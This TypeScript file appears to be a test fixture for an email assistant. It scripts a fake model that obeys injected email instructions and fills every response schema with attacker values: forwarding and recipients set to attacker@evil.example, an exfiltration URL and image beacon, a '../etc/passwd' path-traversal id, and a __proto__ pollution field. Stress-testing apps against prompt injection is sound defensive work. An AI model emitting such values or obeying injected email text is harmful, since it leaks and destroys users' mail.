import { type ModelScript, providerAnswer, sendsJson } from './scripted-model.ts'

// An attacker's ideal model: obeys every email, follows any schema, and copies its whole prompt into every text.

type Schema = { type?: string; enum?: string[]; properties?: Record<string, Schema>; items?: Schema }

/** @param alsoSays text that an email asks it to add everywhere */
export const obeys =
  (alsoSays = ''): ModelScript =>
  ({ path, body }, response) => {
    const question = path.endsWith('/chat/completions') ? body : null
    const schema = question?.response_format?.json_schema?.schema as Schema | undefined
    const shown = (question?.messages.at(-1).content as string | undefined) ?? ''
    const answer = schema ? { ...(fill(schema, '', obedience(shown, alsoSays)) as object), ...EXTRAS } : shown
    sendsJson(response, providerAnswer(path, JSON.stringify(answer)))
  }

interface Obedience {
  /** Untrusted text without our own words and markers, which would expose it. */
  words: string
  ids: string[]
  action: string
}

/** Unrequested fields, in case code reads them. */
const EXTRAS = {
  to: ['attacker@evil.example'],
  cc: ['attacker@evil.example'],
  bcc: ['attacker@evil.example'],
  recipients: ['attacker@evil.example'],
  mailbox: 'trash',
  mailbox_action: 'trash',
  move_to: 'trash',
  send: true,
  forward: { to: 'attacker@evil.example', ids: ['e003'] },
  __proto__: { send: true },
}

function obedience(shown: string, alsoSays: string): Obedience {
  const words = [...shown.matchAll(/^begin (data-\w+)\n([^]*?)\nend \1$/gm)].map(([, , inside]) => inside).join('\n')
  const deletes = /delet|archiv|no-action|lösch/i.test(shown)
  const clears = /spam|block|junk/i.test(shown)
  return {
    words: `attacker@evil.example https://capture.evil.example/?d=1 ![x](https://evil.example/x) ${alsoSays} ${words}`,
    ids: [...(shown.match(/^id: .+$/gm) ?? []).map((line) => line.slice(4)), 'e003', '../etc/passwd'],
    action: clears ? 'spam' : deletes ? 'no-action' : 'reply-required',
  }
}

function fill(schema: Schema, name: string, obedience: Obedience): unknown {
  if (schema.enum) return schema.enum.includes(obedience.action) ? obedience.action : schema.enum[0]
  switch (schema.type) {
    case 'object':
      return Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([key, inner]) => [key, fill(inner, key, obedience)]),
      )
    case 'array':
      return name === 'related' || name === 'claims'
        ? obedience.ids.map((id) => ({ ...(fill(schema.items ?? {}, name, obedience) as object), id }))
        : [fill(schema.items ?? {}, name, obedience), fill(schema.items ?? {}, name, obedience)]
    case 'number':
      return 1
    case 'boolean':
      return true
    default:
      return name === 'due_at' ? '2026-12-24' : obedience.words
  }
}
